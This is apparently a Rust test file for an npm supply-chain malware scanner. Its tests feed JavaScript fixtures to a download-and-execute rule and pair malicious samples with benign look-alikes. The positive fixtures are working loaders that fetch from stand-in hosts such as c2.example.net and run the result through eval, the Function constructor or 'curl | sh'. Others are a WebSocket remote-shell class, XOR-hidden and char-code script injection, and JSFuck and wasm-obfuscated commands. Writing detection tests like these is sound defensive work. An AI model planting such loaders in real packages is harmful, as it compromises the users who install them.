    fn negative_browser_module_loader() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "vs/loader.js",
                "function load(url, done, fail) {\n  fetch(url)\n    .then((r) => { if (r.status !== 200) throw new Error(r.statusText); return r.text(); })\n    .then((t) => { new Function(t + '\\n//# sourceURL=' + url).call(self); done(); })\n    .then(undefined, fail);\n}\nmodule.exports = load;\n",
            ),
        ]);
        let sev: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/download-exec")
            .map(|f| f.severity)
            .collect();
        assert_eq!(sev, vec![diligence_finding::Severity::Low]);
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    #[test]
    fn positive_fetch_constant_url_then_eval() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "b.js",
                "fetch('https://c2.example.net/payload.js')\n  .then((r) => r.text())\n  .then((t) => { eval(t); });\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("b.js".to_string(), 3)]
        );
    }

    /// The `Function` constructor reached without its name: `Function.constructor`,
    /// `[].constructor.constructor`, `''.constructor.constructor`, `(() => {}).constructor`,
    /// `Object.getPrototypeOf(async function () {}).constructor`: each runs a response.
    #[test]
    fn positive_function_constructor_aliases() {
        for ctor in [
            "new (Function.constructor)",
            "[].constructor.constructor",
            "''['constructor']['constructor']",
            "(() => {}).constructor",
            "Object.getPrototypeOf(async function () {}).constructor",
        ] {
            let src = format!(
                "const axios = require('axios');\nasync function load() {{\n  const res = await axios.get('https://cfg.example.net/v1');\n  const run = {ctor}('require', res.data.cookie);\n  run(require);\n}}\nload();\n"
            );
            let s = scan(&[("package.json", PJ), ("index.js", &src)]);
            assert_eq!(
                hits(&s, "code/download-exec"),
                vec![("index.js".to_string(), 4)],
                "{ctor}"
            );
        }
    }

    /// Constructor checks and a constructor of an unknown value are not code.
    #[test]
    fn negative_constructor_checks() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const axios = require('axios');\nasync function load(v) {\n  const res = await axios.get('https://cfg.example.net/v1');\n  if (res.data.constructor === Object) return new res.data.constructor(res.data);\n  return [].constructor.isArray(res.data) ? v.constructor(res.data) : null;\n}\nmodule.exports = load;\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/download-exec"), vec![]);
    }

    /// An install script writes an agent program as a template literal (run later by a
    /// service): the agent's remote command execution is seen at the write.
    #[test]
    fn positive_code_written_then_run() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node setup.js\"}}",
            ),
            (
                "setup.js",
                "const fs = require('fs');\nconst src = `\nconst h=require('https'),c=require('child_process');\nh.get('https://example.com/c',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>c.exec(b));});\n`;\nfs.writeFileSync(require('os').homedir() + '/.agent.js', src);\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("setup.js".to_string(), 6)]
        );
    }

    /// A scaffolder writes a server template: network code, nothing run from the network.
    #[test]
    fn negative_scaffolder_writes_server_template() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst SERVER = `const http = require('http');\nhttp.createServer((req, res) => res.end('hello')).listen(process.env.PORT || 3000);\n`;\nexports.create = (dir) => fs.writeFileSync(dir + '/server.js', SERVER);\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/download-exec"), vec![]);
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// A BeaverTail-style loader: a promise-wrapped `http(s).get` helper whose URL is its
    /// parameter, the response handed to `new (Function.constructor)('require', …)` on a
    /// timer. The URL is not constant in the helper, but the code gets Node's `require`.
    #[test]
    fn positive_promise_helper_loader_handing_require() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "cache.js",
                "const get = (u) => new Promise((res, rej) => {\n  const lib = u.startsWith('https') ? require('https') : require('http');\n  lib.get(u, r => { let b = ''; r.on('data', c => b += c); r.on('end', () => res({ data: b })); }).on('error', rej);\n});\nconst host = [107, 119, 119, 115].map(c => String.fromCharCode(c - 3)).join('');\nasync function warm() {\n  const { data } = await get(host + '://198.51.100.7/api');\n  const m = JSON.parse(data);\n  new (Function.constructor)('require', m.cookie)(require);\n}\nsetTimeout(warm, 3500);\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("cache.js".to_string(), 9)]
        );
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Critical)
        );
    }

    /// The benign look-alike: a browser module loader's promise-wrapped fetch of the URL it is
    /// asked for, evaluated without Node's `require`, stays low.
    #[test]
    fn negative_promise_helper_loader_without_require() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "loader.js",
                "const get = (u) => new Promise((res) => { fetch(u).then(r => r.text()).then(res); });\nexports.load = async function load(url) {\n  const src = await get(url);\n  return new Function('define', src)(define);\n};\n",
            ),
        ]);
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Low)
        );
    }

    /// A remote-access class: messages of a WebSocket dispatched through `this.onMessage(raw)`
    /// to a method that runs a field as a shell command.
    #[test]
    fn positive_websocket_message_dispatched_to_a_method() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "tail.js",
                "const WebSocket = require('ws');\nconst cp = require('child_process');\nclass Tail {\n  start() { const ws = new WebSocket('wss://tail.example.net/a'); ws.on('message', raw => this.onProbe(raw)); }\n  onProbe(raw) {\n    const p = JSON.parse(raw);\n    switch (p.kind) { case 'sh': return cp.exec(p.cmd, () => {}); default: return undefined; }\n  }\n}\nmodule.exports = Tail;\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("tail.js".to_string(), 7)]
        );
    }

    /// A class whose method runs a fixed command and whose message handler only logs: no path.
    #[test]
    fn negative_class_method_with_fixed_command() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "tail.js",
                "const WebSocket = require('ws');\nconst cp = require('child_process');\nclass Tail {\n  start() { const ws = new WebSocket('wss://tail.example.net/a'); ws.on('message', raw => this.log(raw)); this.rev(); }\n  log(raw) { console.log(String(raw)); }\n  rev() { return cp.execFileSync('git', ['rev-parse', 'HEAD']); }\n}\nmodule.exports = Tail;\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/download-exec"), vec![]);
    }

    /// esbuild's install fallback: its platform binary fetched from the npm registry, written
    /// and run to check its version, is low.
    #[test]
    fn negative_binary_from_the_npm_registry() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "install.js",
                "const https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nfunction fetch(url) {\n  return new Promise((resolve, reject) => {\n    https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => resolve(Buffer.concat(chunks))); }).on('error', reject);\n  });\n}\nasync function main() {\n  const bin = 'bin/tool';\n  fs.writeFileSync(bin, await fetch('https://registry.npmjs.org/@x/tool-linux/-/tool-linux-1.0.0.tgz'));\n  cp.execFileSync(bin, ['--version']);\n}\nmain();\n",
            ),
        ]);
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Low)
        );
    }

    /// The registry URL only in a comment of the same file does not make a hidden download of
    /// another host's binary low.
    #[test]
    fn positive_registry_url_elsewhere_in_the_file_changes_nothing() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "install.js",
                "// mirrors https://registry.npmjs.org/agent/-/agent-1.0.0.tgz for offline installs\nconst https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nhttps.get('https://cdn.example.net/agent', (res) => {\n  const out = fs.createWriteStream('/tmp/agent');\n  res.pipe(out);\n  out.on('finish', () => cp.spawn('/tmp/agent', [], { detached: true, stdio: 'ignore' }).unref());\n});\n",
            ),
        ]);
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Critical)
        );
    }

    /// A registry tarball URL spelled in code beside a download from another, known host
    /// lowers nothing: the download's own URL decides.
    #[test]
    fn positive_registry_url_in_code_beside_another_hosts_download() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "install.js",
                "const MIRROR = 'https://registry.npmjs.org/agent/-/agent-1.0.0.tgz';\nconst https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nhttps.get('https://cdn.example.net/agent', (res) => {\n  const out = fs.createWriteStream('/tmp/agent');\n  res.pipe(out);\n  out.on('finish', () => cp.spawn('/tmp/agent', [], { detached: true, stdio: 'ignore' }).unref());\n});\nmodule.exports = MIRROR;\n",
            ),
        ]);
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Critical)
        );
    }

    /// A first-run launcher: a binary fetched with `rejectUnauthorized: false` through a
    /// helper, saved, then spawned under another name.
    #[test]
    fn positive_launcher_download_with_tls_off() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "bin/cli.js",
                "const fs = require('fs');\nconst https = require('https');\nconst { spawn } = require('child_process');\nfunction download(url, dest) {\n  return new Promise((resolve) => {\n    https.get(url, { rejectUnauthorized: false }, (res) => { const out = fs.createWriteStream(dest); res.pipe(out); out.on('finish', resolve); });\n  });\n}\n(async () => {\n  const bin = '/tmp/rt/' + process.platform;\n  await download('https://dl.example.net/rt', bin);\n  spawn(bin, process.argv.slice(2), { stdio: 'inherit' });\n})();\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("bin/cli.js".to_string(), 6)]
        );
    }

    /// The same launcher with TLS verification on is the prebuilt-binary installer class: not
    /// reported when the run is not matched to the written file.
    #[test]
    fn negative_launcher_download_with_tls_on() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "bin/cli.js",
                "const fs = require('fs');\nconst https = require('https');\nconst { spawn } = require('child_process');\nfunction download(url, dest) {\n  return new Promise((resolve) => {\n    https.get(url, (res) => { const out = fs.createWriteStream(dest); res.pipe(out); out.on('finish', resolve); });\n  });\n}\n(async () => {\n  const bin = '/tmp/rt/' + process.platform;\n  await download('https://dl.example.net/rt', bin);\n  spawn(bin, process.argv.slice(2), { stdio: 'inherit' });\n})();\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/download-exec"), vec![]);
    }

    /// A CI-gated post-install script: a fetched Python script run by `sudo python3 -c` inside
    /// a shell command line (tj-actions/changed-files 2025 memory dump).
    #[test]
    fn positive_fetched_script_run_by_sudo_python() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "post.js",
                "const { execSync } = require('child_process');\nconst https = require('https');\nfunction get(u) { return new Promise((res) => { https.get(u, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => res(b)); }); }); }\n(async () => {\n  const py = await get('https://gist.example.com/raw/x.py');\n  execSync(`sudo python3 -c \"$(printf '%s' '${Buffer.from(py).toString('base64')}' | base64 -d)\"`);\n})();\n",
            ),
        ]);
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Critical)
        );
    }

    /// A version fetched from the registry passed to `git checkout`: an argument of a fixed
    /// program, medium.
    #[test]
    fn negative_fetched_value_as_a_git_argument() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "tag.js",
                "const { execSync } = require('child_process');\nmodule.exports = async function pin() {\n  const r = await fetch('https://api.example.com/latest');\n  const { tag } = await r.json();\n  execSync('git checkout ' + tag);\n};\n",
            ),
        ]);
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Medium)
        );
    }

    /// A hook manager that writes git hooks whose text downloads a remote script and pipes it
    /// into `sh` (the hook runs on every commit, long after the install).
    #[test]
    fn positive_written_git_hook_pipes_a_download_into_sh() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/index.js",
                "const fs = require('fs'), path = require('path');\nfunction script(name) {\n  return ['#!/bin/sh', '(curl -fsSL https://hooks.example.invalid/' + name + '.sh | sh >/dev/null 2>&1 &)', ''].join('\\n');\n}\nexports.install = (dir) => {\n  for (const h of ['pre-commit', 'pre-push']) fs.writeFileSync(path.join(dir, 'hooks', h), script(h), { mode: 0o755 });\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("lib/index.js".to_string(), 6)]
        );
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Critical)
        );
    }

    /// husky / simple-git-hooks: hooks that run the project's own local command.
    #[test]
    fn negative_hook_manager_writes_local_commands() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/index.js",
                "const fs = require('fs'), path = require('path');\nexports.install = (dir, cmds) => {\n  for (const h of Object.keys(cmds)) fs.writeFileSync(path.join(dir, '.git', 'hooks', h), '#!/bin/sh\\nnpx lint-staged\\n', { mode: 0o755 });\n};\n",
            ),
        ]);
        assert!(hits(&s, "code/download-exec").is_empty());
    }

    /// A README generator writing install instructions (`curl … | sh`) to a markdown file:
    /// nothing runs that file.
    #[test]
    fn negative_install_instructions_written_to_docs() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "gen.js",
                "const fs = require('fs');\nfs.writeFileSync('docs/INSTALL.md', 'Run:\\n\\n    curl -fsSL https://get.example.invalid | sh\\n');\n",
            ),
        ]);
        assert!(hits(&s, "code/download-exec").is_empty());
    }

    /// JSFuck: `Function` reached through `[]['filter']['constructor']` with letters from
    /// `(![]+[])` tables, the code from char codes in JSFuck digits, called with `require`.
    #[test]
    fn positive_jsfuck_function_runs_a_download() {
        // "filter", "constructor" and the code, spelled the JSFuck way.
        let f = "(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(![]+[])[!+[]+!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]";
        let c = "([]+{})[!+[]+!+[]+!+[]+!+[]+!+[]]+([]+{})[+!+[]]+([][[]]+[])[+!+[]]+(![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+(!![]+[])[!+[]+!+[]]+([]+{})[!+[]+!+[]+!+[]+!+[]+!+[]]+(!![]+[])[+[]]+([]+{})[+!+[]]+(!![]+[])[+!+[]]";
        let code = "r('child_process').exec('curl -s https://x.example.invalid/a | sh')";
        let nums: Vec<String> = code.bytes().map(|b| b.to_string()).collect();
        let src = format!(
            ";(function(){{try{{[][{f}][{c}]((!![]+[])[+!+[]],([]+[])[{c}]['fromCharCode'].apply(null,[{}]))(require)}}catch(e){{}}}})();\n",
            nums.join(",")
        );
        let s = scan(&[("package.json", PJ), ("index.js", &src)]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("index.js".to_string(), 1)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A schema compiler building a validator with `new Function` from templates: code
    /// generation by name, nothing decoded.
    #[test]
    fn negative_code_generator_function() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "compile.js",
                "exports.compile = (schema) => {\n  const checks = Object.keys(schema).map((k) => `if (typeof d.${k} !== '${schema[k]}') return false;`);\n  return Function('d', checks.join('\\n') + '\\nreturn true;')(schema);\n};\n",
            ),
        ]);
        assert!(
            s.findings
                .iter()
                .all(|f| f.severity <= diligence_finding::Severity::Low)
        );
    }

    /// A wasm module whose data segment holds `child_process` and a `curl | sh` XORed with a
    /// key the code uses; the code calls `require(sym[0])[sym[1]](sym[2])`.
    #[test]
    fn positive_wasm_data_segment_hides_a_command() {
        let src = "const K = 'AGFzbQEAAAAFAwEAAQtMAQBBAAtGQklITUV+UVNOQkRSUiFEWURCclhPQiFCVFNNAQxHUnJtAUlVVVFSGw4OWQ9EWUBMUU1ED0hPV0BNSEUOSA9SSQFdAVJJIQ==';\nfunction init() {\n  const inst = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from(K, 'base64')), {});\n  const mem = new Uint8Array(inst.exports.m.buffer);\n  const sym = []; let cur = [];\n  for (let i = 0; i < 256 && sym.length < 3; i++) { const b = mem[i] ^ 0x21; if (b === 0) { sym.push(Buffer.from(cur).toString()); cur = []; } else cur.push(b); }\n  require(sym[0])[sym[1]](sym[2]);\n}\nmodule.exports = init;\n";
        let s = scan(&[("package.json", PJ), ("index.js", src)]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("index.js".to_string(), 1)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A wasm codec (base64 module, data segment of tables) whose output only fills buffers.
    #[test]
    fn negative_wasm_codec() {
        let src = "const K = 'AGFzbQEAAAAFAwEAAQscAQBBAAsWAAECA2xvb2t1cCB0YWJsZSB2MQAQIA==';\nconst fs = require('fs');\nexports.decode = (p) => { const m = new WebAssembly.Module(Buffer.from(K, 'base64')); const i = new WebAssembly.Instance(m, {}); return new Uint8Array(i.exports.m.buffer).map((b) => b ^ 0xff); };\nexports.load = (p) => fs.readFileSync(p);\n";
        let s = scan(&[("package.json", PJ), ("index.js", src)]);
        assert!(
            s.findings
                .iter()
                .all(|f| f.severity <= diligence_finding::Severity::Low)
        );
    }

    /// An npx scaffolder that downloads a per-platform executable (named-import `join`) and
    /// starts it detached and silent.
    #[test]
    fn positive_scaffolder_starts_a_downloaded_binary_detached() {
        let s = scan(&[
            (
                "package.json",
                r#"{"name":"create-x","version":"1.0.0","type":"module","bin":{"create-x":"bin/index.mjs"}}"#,
            ),
            (
                "bin/index.mjs",
                "import { writeFileSync } from 'node:fs';\nimport { join } from 'node:path';\nimport { tmpdir, platform } from 'node:os';\nimport { spawn } from 'node:child_process';\nconst dest = join(tmpdir(), '.x-dev-' + process.pid);\nconst res = await fetch(`https://dl.example.invalid/${platform()}/x`);\nwriteFileSync(dest, Buffer.from(await res.arrayBuffer()));\nspawn(dest, [], { detached: true, stdio: 'ignore' }).unref();\n",
            ),
        ]);
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Critical)
        );
    }

    /// A stage fetched from a URL handed in by the caller, unscrambled (reversed) and run with an
    /// indirect `(0, eval)`: a loader never reverses the script it loads.
    #[test]
    fn positive_fetched_text_reversed_then_indirect_eval() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "get.js",
                "module.exports = async function get(url) { const r = await fetch(url); return r.text(); };\n",
            ),
            (
                "index.js",
                "const get = require('./get');\nconst U = 'txt.egats/moc.elpmaxe//:sptth';\nsetTimeout(async () => { const t = await get(U.split('').reverse().join(''));\n  (0, eval)(t.split('').reverse().join('')); }, 1000);\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!(
            (f.file.as_str(), f.line, f.severity),
            ("index.js", 4, diligence_finding::Severity::Critical)
        );
    }

    /// An install script appends a loader to another application's bundle (`old + INJECT`):
    /// the appended code is analysed as code at the write.
    #[test]
    fn positive_loader_appended_to_another_apps_bundle() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "apply.js",
                "const fs = require('fs');\nconst INJECT = `;(async()=>{const r=await fetch('https://c2.example.org/l');const t=await r.text();(new Function('require',t))(require)})();`;\nconst m = '/opt/App/resources/app/out/main.js';\nconst s = fs.readFileSync(m, 'utf8');\nfs.writeFileSync(m, s + INJECT);\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!(
            (f.line, f.severity),
            (5, diligence_finding::Severity::Critical)
        );
    }

    /// A changelog writer prepends a short constant header to a file it read: no code.
    #[test]
    fn negative_text_prepended_to_a_file() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "cl.js",
                "const fs = require('fs');\nconst HEAD = '# Changelog\\n\\nAll notable changes to this project are documented in this file.\\n\\n';\nconst s = fs.readFileSync('CHANGELOG.md', 'utf8');\nfs.writeFileSync('CHANGELOG.md', HEAD + s);\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/download-exec"), vec![]);
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// A hot-reload client evaluates module code its page's own server sends over a socket
    /// at `location.host` (webpack-dev-server, Vite, Parcel): low, even with a CommonJS
    /// wrapper's `module` parameter.
    #[test]
    fn negative_hot_reload_socket_of_the_pages_own_server() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "client.js",
                "(function () {\n  var ws = new WebSocket((location.protocol === 'https:' ? 'wss://' : 'ws://') + location.host + '/__hmr');\n  ws.onmessage = function (ev) {\n    var msg = JSON.parse(ev.data);\n    var mod = { exports: {} };\n    new Function('module', 'exports', msg.code)(mod, mod.exports);\n  };\n})();\n",
            ),
        ]);
        let sev: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/download-exec")
            .map(|f| f.severity)
            .collect();
        assert_eq!(sev, vec![diligence_finding::Severity::Low]);
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// A loader behind a devtools check that points a `<script>` at a URL XORed into
    /// integers (the 2018 event-stream / "harvesting" style gated stage).
    #[test]
    fn positive_script_from_a_xored_url_behind_a_devtools_gate() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "src/env.js",
                "const K = 0x5a;\nconst P = [50, 46, 46, 42, 41, 96, 117, 117, 34, 116, 63, 34, 59, 55, 42, 54, 63, 117, 46, 116, 48, 41];\nfunction open() { return window.outerWidth - window.innerWidth > 160; }\nfunction load() {\n  const s = document.createElement('script');\n  s.src = String.fromCharCode.apply(null, P.map((c) => c ^ K)) + '?u=' + encodeURIComponent(location.href);\n  document.head.appendChild(s);\n}\nsetInterval(() => { if (!open()) load(); }, 2000);\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!(
            (f.line, f.severity),
            (6, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// The benign look-alike: an analytics snippet loads its tag from a URL in the clear.
    #[test]
    fn negative_analytics_loader_with_a_plain_url() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "src/ga.js",
                "export function load(id) {\n  const s = document.createElement('script');\n  s.async = true;\n  s.src = 'https://www.googletagmanager.com/gtag/js?id=' + encodeURIComponent(id);\n  document.head.appendChild(s);\n}\n",
            ),
        ]);
        assert!(
            hits(&s, "code/download-exec").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// The polyfill.io shape: a feature test schedules a function handed `window` and
    /// `document` as parameters that, behind mobile, admin-cookie and hour-of-day checks,
    /// injects a `<script>` whose URL is char codes.
    #[test]
    fn positive_script_injected_through_a_document_parameter() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "polyfills/at.js",
                "function sched(w, d) {\n  var ua = w.navigator.userAgent, c = d.cookie || '';\n  if (!/Mobi|Android/i.test(ua) || /admin/.test(c)) return;\n  var h = new Date().getHours(); if (h < 8 || h > 23) return;\n  var q = String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,46,99,111,109,47,103,46,106,115);\n  var s = d.createElement('script'); s.src = q + '?h=' + encodeURIComponent(w.location.host);\n  (d.head || d.documentElement).appendChild(s);\n}\nmodule.exports = { needed: function () { setTimeout(function () { sched(window, document); }, 1500); return !Array.prototype.at; } };\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!(
            (f.line, f.severity),
            (6, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// The benign look-alike: a consent manager handed `document` loads its vendor's tag
    /// from a URL in the clear, and an embed helper builds an `<iframe>` for a caller's URL.
    #[test]
    fn negative_script_through_a_document_parameter_with_a_plain_url() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "src/cmp.js",
                "export function load(d, id) {\n  const s = d.createElement('script');\n  s.src = 'https://cdn.example.com/cmp.js?id=' + encodeURIComponent(id);\n  d.head.appendChild(s);\n}\nexport function embed(d, url) {\n  const f = d.createElement('iframe');\n  f.src = url;\n  d.body.appendChild(f);\n}\n",
            ),
        ]);
        assert!(
            hits(&s, "code/download-exec").is_empty(),
            "{:?}",
            s.findings
        );
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// A share widget reads a QR code out of a remote image with a decoding library and runs
    /// the text it holds with `new Function`: no decoding the analysis can see, still a stage.
    #[test]
    fn positive_qr_library_text_run_as_code() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/index.js",
                "import jsQR from 'jsqr';\nasync function logo(src) {\n  const img = new Image(); img.crossOrigin = 'anonymous'; img.src = src; await img.decode();\n  const c = document.createElement('canvas'); const ctx = c.getContext('2d'); ctx.drawImage(img, 0, 0);\n  const d = ctx.getImageData(0, 0, c.width, c.height);\n  const r = jsQR(d.data, d.width, d.height);\n  return r && r.data;\n}\nexport function attach(u) {\n  setTimeout(async () => { const v = await logo(u); if (v) new Function(v)(); }, 120000);\n}\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!(
            (f.line, f.severity),
            (10, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// The benign look-alike: a QR scanner reads a code with a decoding library and hands the
    /// text to the caller's callback.
    #[test]
    fn negative_qr_library_text_returned() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/index.js",
                "import jsQR from 'jsqr';\nexport function scan(video, onResult) {\n  const c = document.createElement('canvas'); const ctx = c.getContext('2d');\n  ctx.drawImage(video, 0, 0);\n  const d = ctx.getImageData(0, 0, c.width, c.height);\n  const r = jsQR(d.data, d.width, d.height);\n  if (r) onResult(r.data);\n}\n",
            ),
        ]);
        assert!(
            hits(&s, "code/download-exec").is_empty(),
            "{:?}",
            s.findings
        );
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// The browser cryptojacker shape: a UMD overlay passes its JSON presets to a function
    /// that builds Blob workers whose source `importScripts` a base64 "calibration" value.
    #[test]
    fn positive_blob_worker_imports_a_url_from_a_data_file() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "presets.json",
                "{\"calibration\": {\"l\": \"aHR0cHM6Ly9jZG4uZXhhbXBsZS5vcmcvbS5qcw==\"}}\n",
            ),
            (
                "meter.js",
                "(function (root, factory) {\n  if (typeof module === 'object' && module.exports) module.exports = factory(require('./presets.json'));\n})(this, function (presets) {\n  function calibrate(c) {\n    var src = 'importScripts(' + JSON.stringify(atob(c.l)) + ');onmessage=function(e){};';\n    var url = URL.createObjectURL(new Blob([src], { type: 'application/javascript' }));\n    for (var i = 0; i < (navigator.hardwareConcurrency || 2); i++) new Worker(url);\n  }\n  return function Meter() { calibrate(presets.calibration); };\n});\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!(
            (f.line, f.severity),
            (5, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A Blob worker whose source `importScripts` a decoded constant (template form) is high.
    #[test]
    fn positive_blob_worker_imports_a_decoded_constant() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "w.js",
                "export function start() {\n  const u = atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS5vcmcvbS5qcw==');\n  const src = `importScripts(${JSON.stringify(u)});`;\n  return new Worker(URL.createObjectURL(new Blob([src])));\n}\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!((f.line, f.severity), (3, diligence_finding::Severity::High));
    }

    /// The benign look-alikes: the cross-origin worker shim (`importScripts` of the caller's
    /// or the bundle's own URL), and an inline worker whose whole source is base64 (Vite's
    /// `?worker&inline`).
    #[test]
    fn negative_blob_worker_shims() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "worker.js",
                "export function crossOrigin(url) {\n  const src = 'importScripts(' + JSON.stringify(url) + ');';\n  return new Worker(URL.createObjectURL(new Blob([src])));\n}\nexport function own() {\n  const u = new URL('./w.js', import.meta.url).href;\n  return new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(u)})`])));\n}\nconst encoded = 'b25tZXNzYWdlID0gKGUpID0+IHBvc3RNZXNzYWdlKGUuZGF0YSAqIDIpOw==';\nexport function inline() {\n  return new Worker(URL.createObjectURL(new Blob([atob(encoded)], { type: 'text/javascript' })));\n}\n",
            ),
        ]);
        assert!(
            hits(&s, "code/download-exec").is_empty(),
            "{:?}",
            s.findings
        );
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// A build-time helper picks its command per platform (`const sh = win ? [ps, args] :
    /// ['/bin/sh', ['-c', 'curl … | sh']]`) and starts `sh[0]` with `sh[1]`: each branch is
    /// read as the command it is.
    #[test]
    fn positive_per_platform_command_pipes_a_download_into_a_shell() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "tools/gen.js",
                "const { spawn } = require('child_process');\nconst sh = process.platform === 'win32'\n  ? ['powershell', ['-NoP', '-C', \"iex (iwr -UseBasicParsing 'https://cache.example.net/p.ps1').Content\"]]\n  : ['/bin/sh', ['-c', \"curl -fsSL 'https://cache.example.net/p.sh' | sh\"]];\nspawn(sh[0], sh[1], { detached: true, stdio: 'ignore' }).unref();\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!(
            (f.line, f.severity),
            (5, diligence_finding::Severity::Critical)
        );
    }

    /// The benign look-alike: a prebuilt-binary installer picks the binary's name per platform
    /// and runs it for its version.
    #[test]
    fn negative_per_platform_binary_name() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "install.js",
                "const { execFileSync } = require('child_process');\nconst path = require('path');\nconst bin = process.platform === 'win32' ? 'tool.exe' : 'tool';\nconst args = process.platform === 'win32' ? ['/version'] : ['--version'];\nexecFileSync(path.join(__dirname, 'bin', bin), args, { stdio: 'inherit' });\n",
            ),
        ]);
        assert!(
            hits(&s, "code/download-exec").is_empty(),
            "{:?}",
            s.findings
        );
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

